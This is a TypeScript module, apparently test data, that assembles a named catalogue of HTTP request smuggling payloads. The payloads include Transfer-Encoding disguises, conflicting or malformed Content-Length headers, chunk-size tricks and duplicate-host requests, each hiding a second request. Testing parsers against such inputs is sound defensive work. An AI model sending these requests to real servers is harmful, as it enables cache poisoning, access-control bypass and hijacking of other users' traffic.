/** The path of the smuggled request. */
export const HIDDEN_PATH = '/media/pictures/hidden.svg';
const HIDDEN = `GET ${HIDDEN_PATH} HTTP/1.1\r\nHost: www.aangan.example\r\nX-Rest: `;
const TARGET = '/api/v1/contactUs';

const message = (headers: string[], body: string, first = `POST ${TARGET} HTTP/1.1`) =>
  `${[first, 'Host: www.aangan.example', ...headers].join('\r\n')}\r\n\r\n${body}`;

const chunked = `0\r\n\r\n${HIDDEN}`;
const asChunk = `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`;
const length = (body: string) => `Content-Length: ${body.length}`;

/** Spellings of Transfer-Encoding that one parser accepts and the next does not. */
const DISGUISES = [
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'X: x\nTransfer-Encoding: chunked',
  'Transfer-Encoding\r\n : chunked',
  ' Transfer-Encoding: chunked',
  'Transfer-Encoding: \u000bchunked',
  'Transfer_Encoding: chunked',
];

/** Requests that two parsers could interpret differently, by name. */
export const SMUGGLED: Record<string, string> = {
  'both lengths, the hidden one after the chunks': message([length(chunked), 'Transfer-Encoding: chunked'], chunked),
  'both lengths, the hidden one in a chunk': message(['Content-Length: 4', 'Transfer-Encoding: chunked'], asChunk),
  ...Object.fromEntries(
    DISGUISES.flatMap((disguise) => [
      [`${JSON.stringify(disguise)}, after`, message([length(chunked), disguise], chunked)],
      [`${JSON.stringify(disguise)}, inside`, message(['Content-Length: 4', disguise], asChunk)],
    ]),
  ),
  'two different lengths': message(['Content-Length: 0', length(HIDDEN)], HIDDEN),
  'two different lengths, in reverse order': message([length(HIDDEN), 'Content-Length: 0'], HIDDEN),
  'a list of lengths': message([`Content-Length: 0, ${HIDDEN.length}`], HIDDEN),
  'a length with a plus': message(['Content-Length: +0'], HIDDEN),
  'a length with spaces inside': message(['Content-Length: 0 0'], HIDDEN),
  'a length in hexadecimal': message(['Content-Length: 0x0'], HIDDEN),
  'a negative length': message(['Content-Length: -1'], HIDDEN),
  'a length with a space before the colon': message([`Content-Length : ${HIDDEN.length}`], HIDDEN),
  'a chunk with an extension that ends early': message(['Transfer-Encoding: chunked'], `1;x\nA\r\n0\r\n\r\n${HIDDEN}`),
  'a chunk size with a sign': message(['Transfer-Encoding: chunked'], `+0\r\n\r\n${HIDDEN}`),
  'a chunk size too large to count': message(['Transfer-Encoding: chunked'], `10000000000000000\r\n\r\n${HIDDEN}`),
  'lines that end without a return': `POST ${TARGET} HTTP/1.1\nHost: www.aangan.example\nContent-Length: ${HIDDEN.length}\n\n${HIDDEN}`,
  'HTTP/1.0 with chunks, kept alive': message(
    ['Connection: keep-alive', 'Transfer-Encoding: chunked', length(chunked)],
    chunked,
    `POST ${TARGET} HTTP/1.0`,
  ),
  'a GET with a body': message([length(HIDDEN)], HIDDEN, 'GET /robots.txt HTTP/1.1'),
  'an address with another host': message([length(HIDDEN)], HIDDEN, `POST http://evil.example${TARGET} HTTP/1.1`),
  'two hosts': message(['Host: evil.example', length(HIDDEN)], HIDDEN),
  'a header that is too large': message([`X: ${'x'.repeat(40_000)}`, length(HIDDEN)], HIDDEN),
  'a zero character in a header': message(['X: a\u0000b', length(HIDDEN)], HIDDEN),
  'Expect: 100-continue': message(['Expect: 100-continue', length(HIDDEN)], HIDDEN),
  'an upgrade to HTTP/2': message(
    ['Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA', length(HIDDEN)],
    HIDDEN,
  ),
  'a length that the connection is asked to drop': message(['Connection: content-length', length(HIDDEN)], HIDDEN),
};
